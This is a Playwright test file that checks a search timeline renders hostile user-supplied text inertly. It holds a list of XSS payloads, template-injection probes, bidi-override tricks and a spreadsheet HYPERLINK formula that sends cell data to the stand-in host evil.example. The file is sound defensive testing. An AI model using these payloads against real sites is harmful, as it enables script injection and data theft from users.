import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures.ts';
import { cards, timeline } from '../page-parts.ts';

const literal = [
  '<script>alert(document.domain)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a href="javascript:alert(1)">prize</a></svg>',
  '</textarea></title></style><iframe srcdoc="<script>alert(1)</script>">',
  '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}',
  '"><style>*{display:none}</style>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x202e; %253Cscript%253E',
  '__proto__',
  '=HYPERLINK("http://evil.example/?"&A1,"Claim your prize")',
] as const;

/** Elements that no text of anybody may become. */
const made = 'script, style, iframe, img, object, embed, form, input, base, meta, link, [onload], [onerror]';

test('hostile texts do nothing, wherever they stand', async ({ search, page }) => {
  await search('447700900125');
  await expect(cards(page).first()).toBeVisible();
  await openAll(page);
  await test.step('hostile texts are shown letter by letter and make nothing', async () => {
    for (const text of literal) {
      await expect(cards(page).getByText(text, { exact: true }).first()).toBeVisible();
    }
    await expect(timeline(page).locator(made)).toHaveCount(0);
    await expect(page.getByText('polluted').first()).toBeVisible();
  });
  await test.step('the only links are https links to surveys, announced', async () => {
    const links = timeline(page).getByRole('link');
    await expect(links).toHaveCount(1);
    await expect(links).toHaveAccessibleName('Open the survey response on survey.example.com (new tab)');
    await expect(links).toHaveAttribute('href', 'https://survey.example.com/r?t=2');
    await expect(links).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(timeline(page).getByText('javascript:alert(1)', { exact: true }).first()).toBeVisible();
  });
  await test.step('no text reorders what stands around it, or hides', async () => {
    await expect(page.getByText('Refund ⟨U+202E⟩54.1£ fo⟨U+202C⟩ confirmed').first()).toBeVisible();
    const html = await page.locator('body').innerHTML();
    expect(html).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff]|\udb40/);
    const overflow = await page.evaluate(
      () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
    );
    expect(overflow).toBe(0);
  });
});

async function openAll(page: Page): Promise<void> {
  const closed = page.getByRole('button', { name: /^Details of/, expanded: false });
  // Those that come with the whole history, after the newest, are to be opened, too.
  await expect(async () => {
    await closed.evaluateAll((buttons) => {
      for (const button of buttons) if (button instanceof HTMLElement) button.click();
    });
    await expect(closed).toHaveCount(0, { timeout: 2_000 });
  }).toPass();
  await timeline(page)
    .locator('details:not([open]) > summary')
    .evaluateAll((summaries) => {
      for (const summary of summaries) if (summary instanceof HTMLElement) summary.click();
    });
}
